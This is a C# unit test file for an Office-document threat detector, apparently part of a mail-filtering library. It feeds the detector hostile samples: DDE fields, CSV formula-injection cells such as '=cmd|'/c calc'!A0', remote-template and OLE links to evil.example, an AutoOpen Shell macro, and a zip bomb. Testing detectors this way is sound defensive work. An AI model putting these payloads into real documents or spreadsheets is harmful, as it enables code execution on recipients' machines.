using System.IO.Compression;
using System.Text;
using Aviso.Base;
using Aviso.Mime;
using Aviso.Spam;
using Xunit;

namespace Aviso.Tests.Unit.Spam.Office;

public sealed class OfficeTests
{
    [Theory]
    // The examples of MS-OVBA §3.2: no compression, normal compression, most compression.
    [InlineData("0119B000616263646566676800696A6B6C6D6E6F70007172737475762E", "abcdefghijklmnopqrstuv.")]
    [InlineData("012FB00023616161626364658200666768696A61686F2A020461617071727374303A757678797A003C03",
        "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa")]
    [InlineData("0103B00261450 0", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")]
    public void Compressed_source_is_unpacked(string hex, string expected)
    {
        var octets = Convert.FromHexString(hex.Replace(" ", "", StringComparison.Ordinal));
        var text = Encoding.Latin1.GetString(VbaText.Unpack(octets, WorkBudget.Once()));
        if (expected.StartsWith("#aaab", StringComparison.Ordinal)) Assert.StartsWith("#aaabcde", text, StringComparison.Ordinal);
        else Assert.Equal(expected, text);
    }

    [Theory]
    [InlineData("word/document.xml", "<w:instrText> DDEAU</w:instrText><w:instrText>TO c:\\\\x.exe \"/c\"</w:instrText>",
        OfficeFinding.Dde)]
    [InlineData("word/document.xml", "<w:fldSimple w:instr=\" dde excel x \">", OfficeFinding.Dde)]
    [InlineData("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>", OfficeFinding.Dde)]
    [InlineData("xl/macrosheets/sheet1.xml", "<x/>", OfficeFinding.Xlm)]
    [InlineData("word/_rels/settings.xml.rels",
        "<Relationship Type=\"http://s/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>",
        OfficeFinding.RemoteTemplate)]
    [InlineData("word/_rels/document.xml.rels",
        "<Relationship Type=\"http://s/oleObject\" Target=\"https://evil.example/x\" TargetMode=\"External\"/>", OfficeFinding.External)]
    [InlineData("word/_rels/document.xml.rels",
        "<Relationship Type=\"http://s/oleObject\" Target=\"mhtml:https://evil.example/x!x\" TargetMode=\"External\"/>",
        OfficeFinding.RemoteTemplate)]
    public void Parts_of_archives_are_told(string name, string text, OfficeFinding finding) =>
        Assert.True(OfficeDocument.Look(Zip(name, Encoding.UTF8.GetBytes(text)), "docx", WorkBudget.Once()).Has(finding));

    [Theory]
    [InlineData("word/document.xml", "<w:instrText> HYPERLINK \"https://one.example/dde\" </w:instrText>")]
    [InlineData("word/_rels/settings.xml.rels",
        "<Relationship Type=\"http://s/attachedTemplate\" Target=\"file:///C:/Users/ann/Normal.dotm\" TargetMode=\"External\"/>")]
    [InlineData("word/_rels/document.xml.rels",
        "<Relationship Type=\"http://s/hyperlink\" Target=\"https://one.example/\" TargetMode=\"External\"/>")]
    public void Links_and_templates_on_the_authors_disk_are_ordinary(string name, string text) =>
        Assert.Empty(OfficeDocument.Look(Zip(name, Encoding.UTF8.GetBytes(text)), "docx", WorkBudget.Once()).Found);

    [Theory]
    [InlineData("=cmd|'/c calc'!A0", true)]
    [InlineData("a,\"=MSEXCEL|'\\..\\cmd.exe'!''\"", true)]
    [InlineData("-5,a|b!,=SUM(A1)", false)]
    [InlineData("=A|B", false)]
    public void Cells_that_ask_other_programs_are_told(string csv, bool expected) =>
        Assert.Equal(expected, OfficeDocument.Look(Encoding.UTF8.GetBytes(csv), "csv", WorkBudget.Once()).Has(OfficeFinding.Dde));

    [Fact]
    public void A_macro_that_runs_by_itself_and_starts_a_program_is_told()
    {
        var findings = new OfficeFindings();
        VbaWords.Look("Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub", findings);
        Assert.True(findings.Has(OfficeFinding.MacroAuto) && findings.Has(OfficeFinding.MacroCalls));
    }

    [Fact]
    public void A_bomb_is_unpacked_no_further_than_the_bound()
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.SmallestSize, leaveOpen: true)) deflate.Write(
            new byte[20 * 1024 * 1024]);
        packed.Position = 0;
        Assert.Equal(Unpacker.Most, Unpacker.Inflate(new ZLibStream(packed, CompressionMode.Decompress), WorkBudget.Once()).Octets.Length);
    }

    internal static byte[] Zip(string name, byte[] content)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(content);
        }
        return stream.ToArray();
    }
}
